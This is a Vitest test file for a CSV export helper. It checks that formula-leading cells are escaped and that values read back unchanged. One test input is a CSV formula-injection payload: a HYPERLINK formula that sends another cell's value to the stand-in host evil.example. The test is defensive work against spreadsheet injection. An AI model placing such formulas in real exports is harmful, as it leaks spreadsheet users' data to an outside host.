import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { fromCsvCell, toCsv } from "./csv";

describe("CSV out", () => {
  it("neutralises formulas, including one followed by a line break", () => {
    const csv = toCsv(["a"], [["=HYPERLINK(\"https://evil.example/?\"&B2)\nx"], ["+1"], ["@SUM(A1)"], ["-2"], ["plain"]]);
    const cells = csv.split("\r\n").slice(1);
    expect(cells[0]).toMatch(/^"'=HYPERLINK/);
    for (const cell of cells.slice(1, 4)) expect(cell).toMatch(/^"?'[+@-]/);
    expect(cells[4]).toBe("plain");
  });
});

describe("CSV back in", () => {
  it.each(["=1+1", "'=1+1", "''@x", "-----BEGIN PGP PUBLIC KEY BLOCK-----\nabc", "'plain", "plain", "", "\tx"])("reads back exactly what was written: %j", (value) => {
    const csv = toCsv(["a"], [[value]]);
    const cell = (Papa.parse<string[]>(csv).data[1] ?? [""])[0] ?? "";
    expect(fromCsvCell(cell)).toBe(value);
  });
});
